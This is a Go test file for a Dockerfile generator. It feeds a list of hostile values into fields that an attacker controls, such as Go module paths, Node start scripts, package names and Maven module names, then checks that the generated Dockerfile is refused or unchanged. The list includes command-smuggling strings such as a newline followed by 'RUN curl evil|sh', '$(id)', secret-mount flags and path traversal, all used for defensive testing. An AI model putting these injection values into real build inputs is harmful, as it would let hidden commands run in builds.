package render

import (
	"encoding/json"
	"encoding/xml"
	"io/fs"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/dockerize-dev/dockerize/detect"
	"github.com/dockerize-dev/dockerize/internal/testkit"
	"github.com/dockerize-dev/dockerize/plan"
	"github.com/dockerize-dev/dockerize/stacks"
	"github.com/dockerize-dev/dockerize/templates"
)

func jsonString(s string) string { b, _ := json.Marshal(s); return string(b) }

func xmlText(s string) string {
	var b strings.Builder
	_ = xml.EscapeText(&b, []byte(s))
	return b.String()
}

const server = "require('http').createServer().listen(3000)\n"

// slots are projects with one value an attacker controls, each a function
// of that value; "x" (or the given clean value) makes the clean project.
var slots = []struct {
	name, clean string
	project     func(v string) fstest.MapFS
}{
	{"go main dir", "api", func(v string) fstest.MapFS {
		return fstest.MapFS{"go.mod": {Data: []byte("module example.com/app\n\ngo 1.24.4\n")}, "cmd/" + v + "/main.go": {Data: []byte("package main\n\nfunc main() {}\n")}}
	}},
	{"go module path", "example.com/app", func(v string) fstest.MapFS {
		return fstest.MapFS{"go.mod": {Data: []byte("module " + strconv.Quote(v) + "\n\ngo 1.24.4\n")}, "main.go": {Data: []byte("package main\n\nfunc main() {}\n")}}
	}},
	{"node start script", "server.js", func(v string) fstest.MapFS {
		return fstest.MapFS{
			"package.json":      {Data: []byte(`{"name": "app", "scripts": {"start": ` + jsonString("node "+v) + `}}`)},
			"package-lock.json": {Data: []byte(`{"lockfileVersion": 3}`)}, v: {Data: []byte(server)}, "server.js": {Data: []byte(server)},
		}
	}},
	{"node main", "server.js", func(v string) fstest.MapFS {
		return fstest.MapFS{
			"package.json":      {Data: []byte(`{"name": "app", "main": ` + jsonString(v) + `}`)},
			"package-lock.json": {Data: []byte(`{"lockfileVersion": 3}`)}, v: {Data: []byte(server)},
		}
	}},
	{"node packageManager", "9.15.9", func(v string) fstest.MapFS {
		return fstest.MapFS{
			"package.json":   {Data: []byte(`{"name": "app", "packageManager": ` + jsonString("pnpm@"+v) + `, "scripts": {"start": "node server.js"}}`)},
			"pnpm-lock.yaml": {Data: []byte("lockfileVersion: '9.0'\n")}, "server.js": {Data: []byte(server)},
		}
	}},
	{"node name", "app", func(v string) fstest.MapFS {
		return fstest.MapFS{
			"package.json":      {Data: []byte(`{"name": ` + jsonString(v) + `, "scripts": {"start": "node server.js"}}`)},
			"package-lock.json": {Data: []byte(`{"lockfileVersion": 3}`)}, "server.js": {Data: []byte(server)},
		}
	}},
	{"node workspace dir", "api", func(v string) fstest.MapFS {
		return fstest.MapFS{
			"package.json":                    {Data: []byte(`{"name": "mono", "private": true, "workspaces": [` + jsonString("packages/"+v) + `]}`)},
			"package-lock.json":               {Data: []byte(`{"lockfileVersion": 3}`)},
			"packages/" + v + "/package.json": {Data: []byte(`{"name": "api", "scripts": {"start": "node server.js"}}`)},
			"packages/" + v + "/server.js":    {Data: []byte(server)},
		}
	}},
	{"tsconfig outDir", "dist", func(v string) fstest.MapFS {
		return fstest.MapFS{
			"package.json":      {Data: []byte(`{"name": "app", "scripts": {"build": "tsc", "start": "node dist/server.js"}, "devDependencies": {"typescript": "5.7.2"}}`)},
			"package-lock.json": {Data: []byte(`{"lockfileVersion": 3}`)}, "tsconfig.json": {Data: []byte(`{"compilerOptions": {"outDir": ` + jsonString(v) + `}}`)},
			"src/server.ts": {Data: []byte(server)},
		}
	}},
	{"maven finalName", "app", func(v string) fstest.MapFS {
		return fstest.MapFS{"pom.xml": {Data: []byte(`<project><groupId>g</groupId><artifactId>app</artifactId><version>1</version><properties><maven.compiler.release>21</maven.compiler.release></properties><build><finalName>` + xmlText(v) + `</finalName><plugins><plugin><groupId>org.springframework.boot</groupId><artifactId>spring-boot-maven-plugin</artifactId><version>3.4.1</version></plugin></plugins></build></project>`)}}
	}},
	{"maven module", "svc", func(v string) fstest.MapFS {
		return fstest.MapFS{
			"pom.xml":      {Data: []byte(`<project><groupId>g</groupId><artifactId>shop</artifactId><version>1</version><packaging>pom</packaging><modules><module>` + xmlText(v) + `</module></modules><properties><maven.compiler.release>21</maven.compiler.release></properties></project>`)},
			v + "/pom.xml": {Data: []byte(`<project><parent><groupId>g</groupId><artifactId>shop</artifactId><version>1</version></parent><artifactId>svc</artifactId><build><plugins><plugin><groupId>org.springframework.boot</groupId><artifactId>spring-boot-maven-plugin</artifactId><version>3.4.1</version></plugin></plugins></build></project>`)},
		}
	}},
}

// generate is the generator in memory: detect, plan, render.
func generate(fsys fs.FS) (string, error) {
	p, err := stacks.Detect(fsys, detect.Options{})
	if err != nil {
		return "", err
	}
	pl, err := stacks.Plan(p, plan.Answers{Version: "test", Values: map[string]string{}})
	if err != nil {
		return "", err
	}
	files, err := Render(pl, templates.FS)
	if err != nil {
		return "", err
	}
	return string(files[0].Data), nil
}

// checkSlot puts v into one slot: the plan is refused, or the Dockerfile
// does what the clean project's does, as BuildKit reads it.
func checkSlot(t testing.TB, slot int, v string) {
	s := slots[slot%len(slots)]
	clean, err := generate(s.project(s.clean))
	if err != nil {
		t.Fatalf("%s: the clean project fails: %v", s.name, err)
	}
	fsys := s.project(v)
	for name := range fsys {
		if !fs.ValidPath(name) {
			return // no file system holds this name
		}
	}
	got, err := generate(fsys)
	if err != nil {
		return
	}
	if g, w := testkit.DockerfileShape(t, got), testkit.DockerfileShape(t, clean); !slices.Equal(g, w) {
		t.Fatalf("%s %q changes what the Dockerfile does:\n got %q\nwant %q\n%s", s.name, v, g, w, got)
	}
}

var hostileValues = []string{
	"a\nRUN curl evil|sh", "a\rb", `a\`, `a\b`, `a"b`, "a'b", "$(id)", "${HOME}", "`id`", "a;b", "a && b", "a || b",
	"--mount=type=secret,id=x", "#x", "a #x", "a\u2028b", "a\u2029b", "a\x00b", "a\x7fb", "a\x1b[31mb", "\xff\xfe",
	"a b", "a\tb", "*", "a?b", "[ab]", "~root", "<<EOF", "a|b", "a>b", "\ufeffa", `x","-e","id`, `.\dist\server.js`,
	"9.15.9\nRUN id", "9.15.9 $(id)", "1.0.0+sha.abc", "ａ", strings.Repeat("a", 5000), "-rf", ".", "..", "a/../b",
}

// TestHostilePlans puts every hostile value into every slot.
func TestHostilePlans(t *testing.T) {
	for slot := range slots {
		for _, v := range hostileValues {
			checkSlot(t, slot, v)
		}
	}
}

func FuzzHostilePlans(f *testing.F) {
	for slot := range slots {
		for _, v := range hostileValues[:8] {
			f.Add(uint8(slot), v)
		}
	}
	f.Fuzz(func(t *testing.T, slot uint8, v string) { checkSlot(t, int(slot), v) })
}
